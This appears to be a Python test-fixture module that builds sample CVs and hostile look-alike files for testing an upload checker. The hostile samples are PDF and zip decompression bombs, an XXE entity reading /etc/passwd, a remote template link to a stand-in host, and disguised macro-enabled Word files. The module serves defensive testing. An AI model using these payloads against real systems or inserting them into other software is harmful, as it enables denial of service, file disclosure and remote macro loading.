"""CVs as people send them, and files that only pretend to be one."""

import io
import zipfile
import zlib
from collections.abc import Sequence

import docx

from mentorship.cv_files import CONTENT_TYPES, Kind

# The first page of a TPM's CV, as it was before anybody read it.
LINES = (
    "PRIYA RAMANATHAN",
    "Senior Technical Program Manager, Toronto",
    "SUMMARY",
    "Technical Program Manager with nine years in payments and data platforms.",
    "EXPERIENCE",
    "Northwind Payments, Senior Technical Program Manager, 2021 to today",
    "• Responsible for the migration of the ledger to a new platform.",
    "• Led weekly meetings with many teams and reported status to leadership.",
    "• Ran the incident review programme for 14 services.",
    "Harbour Data, Technical Program Manager, 2017 to 2021",
    "• Delivered the regional failover programme two weeks early.",
    "SKILLS",
    "Program planning, dependency management, SQL, Jira, Airflow",
)
# The same page after a review.
BETTER = (
    "PRIYA RAMANATHAN",
    "Senior Technical Program Manager, Toronto",
    "SUMMARY",
    "Technical Program Manager with nine years in payments and data platforms.",
    "EXPERIENCE",
    "Northwind Payments, Senior Technical Program Manager, 2021 to today",
    "• Ran the incident review programme for 14 services; repeat incidents fell by 38% in a year.",
    "• Moved the ledger of 11 million accounts to a new platform with 22 minutes of downtime.",
    "Harbour Data, Technical Program Manager, 2017 to 2021",
    "• Delivered the regional failover programme two weeks early.",
    "SKILLS",
    "Program planning, dependency management, SQL, Jira, Airflow",
)


def pdf(
    lines: Sequence[str] = LINES, *, catalog: str = "", page: str = "", pages: int = 1
) -> bytes:
    """A PDF of these lines, with more entries in its catalogue or its page."""
    text = " T* ".join(f"({_escaped(line)}) Tj" for line in lines)
    stream = f"BT /F1 10 Tf 14 TL 50 780 Td {text} ET".encode("cp1252")
    return of_stream(zlib.compress(stream), catalog=catalog, page=page, pages=pages)


def of_stream(stream: bytes, *, catalog: str = "", page: str = "", pages: int = 1) -> bytes:
    """A PDF whose pages all show one packed stream."""
    kids = " ".join(f"{5 + n} 0 R" for n in range(pages))
    leaf = (
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        f"/Resources << /Font << /F1 3 0 R >> >> {page} >>"
    )
    bodies = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%b\nendstream" % (len(stream), stream),
        *[leaf.encode()] * pages,
    ]
    return _joined(bodies)


def _joined(bodies: Sequence[bytes]) -> bytes:
    out, starts = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(bodies, 1):
        starts.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = "".join(f"{start:010} 00000 n \n" for start in starts)
    size, begins = len(bodies) + 1, len(out)
    out += f"xref\n0 {size}\n0000000000 65535 f \n{table}".encode()
    out += f"trailer << /Size {size} /Root 1 0 R >>\nstartxref\n{begins}\n%%EOF\n".encode()
    return bytes(out)


def _escaped(line: str) -> str:
    return line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def locked_pdf() -> bytes:
    """A PDF that asks for a password."""
    import pypdf

    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf()))
    writer.encrypt("secret", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_bomb() -> bytes:
    """Some hundred kilobytes that unpack to hundreds of megabytes."""
    return of_stream(zlib.compress(b"BT " + b"(a) Tj " * 30_000_000 + b"ET", 9))


def word(lines: Sequence[str] = LINES) -> bytes:
    """A DOCX of these lines; those that begin with a bullet are items of a list."""
    document = docx.Document()
    for line in lines:
        style = "List Bullet" if line.startswith("• ") else None
        document.add_paragraph(line.removeprefix("• "), style=style)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def rezipped(
    data: bytes,
    add: dict[str, bytes] | None = None,
    change: dict[str, tuple[str, str]] | None = None,
) -> bytes:
    """The same archive with more entries, or with words replaced in some of them."""
    out = io.BytesIO()
    changes = change or {}
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", 8) as new:
        for name in old.namelist():
            was, now = changes.get(name, ("", ""))
            body = old.read(name)
            new.writestr(name, body.replace(was.encode(), now.encode()) if was else body)
        for name, body in (add or {}).items():
            new.writestr(name, body)
    return out.getvalue()


def with_macros() -> bytes:
    """A Word document with the storage of macros in it."""
    return rezipped(word(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros"})


def macro_type() -> bytes:
    """A DOCM whose name was changed."""
    plain = CONTENT_TYPES[Kind.DOCX] + ".main+xml"
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return rezipped(word(), change={"[Content_Types].xml": (plain, macro)})


def zip_bomb() -> bytes:
    """A Word document with a hundred megabytes of spaces in it."""
    return rezipped(word(), add={"word/notes.xml": b" " * 100_000_000})


def with_entities() -> bytes:
    """A Word document that asks its reader to fetch a file of the server."""
    head = "<?xml version='1.0' encoding='UTF-8' standalone='yes'?>"
    bad = f'{head}<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    change = {"word/document.xml": (head, bad), "x": ("", "")}
    return rezipped(rezipped(word(), change=change), change={"word/document.xml": ("PRIYA", "&x;")})


def with_remote_template() -> bytes:
    """A Word document that loads its template from elsewhere."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    link = f'<Relationship Id="r99" Type="{kind}" Target="https://x.example/t.dotm" TargetMode='
    change = {"word/_rels/document.xml.rels": ("</Rel", f'{link}"External"/></Rel')}
    return rezipped(word(), change=change)


def zip_of(entries: dict[str, bytes]) -> bytes:
    """Any archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", 8) as archive:
        for name, body in entries.items():
            archive.writestr(name, body)
    return out.getvalue()


def with_table_and_header() -> bytes:
    """A Word document with a line above the page and a table below it."""
    document = docx.Document(io.BytesIO(word()))
    document.sections[0].header.paragraphs[0].text = "416 555 0137"
    table = document.add_table(rows=1, cols=2)
    table.rows[0].cells[0].text, table.rows[0].cells[1].text = "2019", "Harbour Data"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()
